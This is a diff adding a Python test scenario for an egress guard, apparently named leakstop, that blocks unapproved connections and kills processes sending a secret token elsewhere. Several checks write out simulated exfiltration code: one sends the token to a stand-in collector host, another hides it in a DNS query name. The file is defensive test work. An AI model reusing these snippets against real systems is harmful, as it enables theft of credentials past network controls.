@@ -1,0 +1,317 @@
+# SPDX-License-Identifier: MIT
+"""What the data plane must do on every kernel, in block mode, on one machine without a network.
+
+Runs as root: in a virtual machine as its only program, or inside a network namespace of its
+own. Only the standard library and the agent are needed. Prints a line for each check and
+ends with ``N passed, N failed``.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import errno
+import os
+import secrets
+import signal
+import socket
+import struct
+import sys
+import tempfile
+import threading
+import time
+import traceback
+from collections.abc import Callable
+from pathlib import Path
+
+from leakstop.act import kill
+from leakstop.act.cgroup import CommandCgroup, cgroup2_mount
+from leakstop.engine.core import Engine
+from leakstop.model.event import Connect, Event, Exec, Question
+from leakstop.model.verdict import Action, Carriage, Mode, RuleRef
+from leakstop.policy.rules import Home, NamePlace, Policy, PortRange, Protocol, Rule
+from leakstop.policy.tables import compile_tables
+from leakstop.secrets.inventory import Secret
+from leakstop.secrets.needles import table_of
+from leakstop.sensor.kernel import KernelSensor
+from leakstop.sensor.plan import GuardPlan
+
+RESOLVER = "203.0.113.53"
+HOME, COLLECTOR, COLLECTOR6 = "203.0.113.10", "203.0.113.20", "2001:db8::20"
+ADDRESSES = (f"{RESOLVER}/32", f"{HOME}/32", f"{COLLECTOR}/32", f"{COLLECTOR6}/128")
+NAME = "api.home.test"
+TRIES = 300
+
+
+def set_up_addresses() -> None:
+    """Put the documentation addresses on the loopback interface."""
+    for command in ["ip link set lo up"] + [f"ip addr add {a} dev lo" for a in ADDRESSES]:
+        if os.system(command):  # noqa: TID251 - busybox in the machine, constant text
+            raise SystemExit(f"failed: {command}")
+
+
+class Services:
+    """A resolver that knows one name, and servers that count what they get."""
+
+    def __init__(self) -> None:
+        self.received: dict[str, bytearray] = {HOME: bytearray(), COLLECTOR: bytearray()}
+        self.asked: list[str] = []
+        resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        resolver.bind((RESOLVER, 53))
+        threading.Thread(target=self._answer, args=(resolver,), daemon=True).start()
+        for address in self.received:
+            listener = socket.create_server((address, 443))
+            threading.Thread(target=self._collect, args=(address, listener), daemon=True).start()
+
+    def _answer(self, sock: socket.socket) -> None:
+        while True:
+            query, peer = sock.recvfrom(4096)
+            end = query.index(b"\0", 12) + 5
+            self.asked.append(name_of(query))
+            # The asked name is an alias, and the address belongs to the alias's target.
+            target = b"\x04edge\xc0" + bytes((12,))
+            alias = b"\xc0\x0c" + struct.pack("!HHIH", 5, 1, 30, len(target)) + target
+            at = end + 12
+            address = struct.pack("!BBHHIH", 0xC0, at, 1, 1, 30, 4) + socket.inet_aton(HOME)
+            head = query[:2] + struct.pack("!HHHHH", 0x8180, 1, 2, 0, 0)
+            sock.sendto(head + query[12:end] + alias + address, peer)
+
+    def _collect(self, address: str, listener: socket.socket) -> None:
+        while True:
+            connection, _ = listener.accept()
+            with contextlib.suppress(OSError), connection:
+                connection.settimeout(1)
+                while data := connection.recv(65536):
+                    self.received[address] += data
+
+
+def name_of(query: bytes) -> str:
+    """The name in a query."""
+    labels, at = [], 12
+    while query[at]:
+        labels.append(query[at + 1 : at + 1 + query[at]].decode("latin-1"))
+        at += 1 + query[at]
+    return ".".join(labels)
+
+
+def query_of(name: str, identity: int) -> bytes:
+    """A query for an address."""
+    wire = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
+    return struct.pack("!HHHHHH", identity, 0x0100, 1, 0, 0, 0) + wire + b"\0\0\1\0\1"
+
+
+def ask(name: str, identity: int = 1) -> bytes:
+    """Ask the resolver; raises what the socket raises."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.settimeout(2)
+        sock.connect((RESOLVER, 53))
+        sock.send(query_of(name, identity))
+        return sock.recv(4096)
+
+
+def refused(attempt: Callable[[], object]) -> bool:
+    """Whether ``attempt`` fails with EPERM, at once."""
+    began = time.monotonic()
+    try:
+        attempt()
+    except PermissionError as error:
+        return error.errno == errno.EPERM and time.monotonic() - began < 0.5
+    return False
+
+
+class Scenario:
+    """A guard in block mode, and the checks."""
+
+    def __init__(self) -> None:
+        self.services = Services()
+        self.token = "tok_" + secrets.token_urlsafe(30)
+        rule = Rule(
+            Action.ALLOW,
+            NamePlace(NAME),
+            Protocol.TLS,
+            (PortRange(443, 443),),
+            RuleRef(NAME, "scenario"),
+        )
+        homes = {"TOKEN": Home(False, (rule,), (NAME,))}
+        self.policy = Policy(mode=Mode.BLOCK, rules=(rule,), homes=homes)
+        self.cgroup = CommandCgroup.create(cgroup2_mount(), f"leakstop-scenario-{os.getpid()}")
+        known = (Secret("TOKEN", self.token.encode()),)
+        self.run_dir = Path(tempfile.mkdtemp(prefix="leakstop-scenario-"))
+        self.sensor = KernelSensor(
+            GuardPlan(
+                policy=self.policy,
+                tables=compile_tables(self.policy),
+                secrets=known,
+                needles=table_of(known),
+                scope="command",
+                cgroup=self.cgroup.path,
+                run_dir=self.run_dir,
+                resolvers=(RESOLVER,),
+            )
+        )
+        self.sensor.start()
+        self.engine = Engine(self.policy, ())
+        self.events: list[Event] = []
+
+    def close(self) -> None:
+        """Take everything down."""
+        self.sensor.close()
+        self.cgroup.kill()
+        self.cgroup.remove()
+        (self.run_dir / "bpf").rmdir()
+        self.run_dir.rmdir()
+
+    def inside(self, body: Callable[[], bool]) -> bool:
+        """Run ``body`` in a guarded child, with the agent's part played here."""
+        child = os.fork()
+        if child == 0:
+            code = 1
+            try:
+                self.cgroup.enter()
+                code = 0 if body() else 1
+            except BaseException:  # noqa: BLE001 - a child must not return into the parent's code
+                traceback.print_exc()
+            finally:
+                os._exit(code)
+        return self.wait(child) == 0
+
+    def execute(self, code: str, *arguments: str) -> int:
+        """Run a program with ``arguments`` in a guarded child; return wait(2)'s status."""
+        child = os.fork()
+        if child == 0:
+            self.cgroup.enter()
+            os.execv(sys.executable, [sys.executable, "-c", code, *arguments])
+        return self.wait(child)
+
+    def wait(self, child: int) -> int:
+        """Wait for ``child`` and play the agent meanwhile."""
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            for event in self.sensor.poll(0.02):
+                self.events.append(event)
+                for command in self.engine.feed(event):
+                    kill.kill(command.pid, command.start_ns)
+            ended, status = os.waitpid(child, os.WNOHANG)
+            if ended:
+                self.events += self.sensor.poll(0.05)
+                return status
+        raise TimeoutError("a guarded child hangs")
+
+    # -- checks -------------------------------------------------------------------------
+
+    def check_unnamed_address_is_refused(self) -> bool:
+        return self.inside(lambda: refused(lambda: socket.create_connection((COLLECTOR, 443), 2)))
+
+    def check_ipv6_is_refused(self) -> bool:
+        return self.inside(lambda: refused(lambda: socket.create_connection((COLLECTOR6, 443), 2)))
+
+    def check_v4_mapped_is_refused(self) -> bool:
+        mapped = f"::ffff:{COLLECTOR}"
+        return self.inside(lambda: refused(lambda: socket.create_connection((mapped, 443), 2)))
+
+    def check_unnamed_question_is_refused(self) -> bool:
+        before = len(self.services.asked)
+        ok = self.inside(lambda: refused(lambda: ask("evil.test")))
+        return ok and len(self.services.asked) == before
+
+    def check_answers_teach_before_the_connect(self) -> bool:
+        def body() -> bool:
+            for number in range(TRIES):
+                assert socket.inet_aton(HOME) in ask(NAME, number)
+                socket.create_connection((HOME, 443), 2).close()
+            return refused(lambda: socket.create_connection((HOME, 80), 2))
+
+        return self.inside(body)
+
+    def check_datagrams_are_refused(self) -> bool:
+        def body() -> bool:
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+                unconnected = refused(lambda: sock.sendto(b"x", (COLLECTOR, 9000)))
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+                sock.connect((COLLECTOR, 9000))  # sends nothing, so it may
+                return unconnected and refused(lambda: sock.send(b"x"))
+
+        return self.inside(body)
+
+    def check_raw_sockets_are_refused(self) -> bool:
+        raw = (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+        return self.inside(lambda: refused(lambda: socket.socket(*raw)))
+
+    def check_loopback_is_not_egress(self) -> bool:
+        def body() -> bool:
+            with socket.create_server(("127.0.0.1", 0)) as server:
+                socket.create_connection(server.getsockname(), 2).close()
+            return True
+
+        return self.inside(body)
+
+    def check_secret_at_home_passes(self) -> bool:
+        code = f"import socket,sys;s=socket.create_connection(('{HOME}',443),2);s.send(b'ok')"
+        return self.inside(lambda: bool(ask(NAME))) and self.execute(code, self.token) == 0
+
+    def check_secret_elsewhere_is_killed(self) -> bool:
+        before = len(self.services.received[COLLECTOR])
+        code = (
+            "import socket,sys,time\n"
+            f"try: socket.create_connection(('{COLLECTOR}',443),2).send(sys.argv[1].encode())\n"
+            "finally: time.sleep(30)"
+        )
+        padding = "x" * 100_000
+        for argument in (self.token, f"{padding}{self.token}", f"{self.token}{padding}"):
+            status = self.execute(code, argument)
+            if not (os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL):
+                return False
+        kills = [e for e in self.events if isinstance(e, Connect) and e.carriage is Carriage.KILL]
+        return len(kills) >= 3 and len(self.services.received[COLLECTOR]) == before
+
+    def check_secret_in_a_name_is_killed(self) -> bool:
+        before = len(self.services.asked)
+        code = (
+            "import socket,sys,time\n"
+            f"sys.path.insert(0, {str(Path(__file__).parent)!r})\n"
+            "from scenario import query_of\n"
+            f"s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('{RESOLVER}',53))\n"
+            "token=sys.stdin.read()\n"
+            f"try: s.send(query_of(token[:20]+'.'+token[20:]+'.{NAME}',1))\n"
+            "finally: time.sleep(30)"
+        )
+        reading, writing = os.pipe()
+        os.write(writing, self.token.encode())
+        os.close(writing)
+        child = os.fork()
+        if child == 0:
+            self.cgroup.enter()
+            os.dup2(reading, 0)
+            os.execv(sys.executable, [sys.executable, "-c", code])
+        os.close(reading)
+        status = self.wait(child)
+        hits = [e for e in self.events if isinstance(e, Question) and e.in_name]
+        killed = os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
+        return killed and len(hits) == 1 and len(self.services.asked) == before
+
+    def check_events_hold_no_secret(self) -> bool:
+        execs = [event for event in self.events if isinstance(event, Exec) and event.hits]
+        return bool(execs) and self.token not in repr(self.events)
+
+
+def main() -> int:
+    """Run all checks; 0 if all passed."""
+    set_up_addresses()
+    scenario = Scenario()
+    results: list[bool] = []
+    try:
+        for name in [name for name in vars(Scenario) if name.startswith("check_")]:
+            try:
+                passed = bool(getattr(scenario, name)())
+            except Exception:  # noqa: BLE001 - one failed check must not hide the others
+                traceback.print_exc()
+                passed = False
+            results.append(passed)
+            print("ok  " if passed else "FAIL", name.removeprefix("check_"), flush=True)
+    finally:
+        scenario.close()
+    print(f"{results.count(True)} passed, {results.count(False)} failed", flush=True)
+    return 0 if all(results) else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
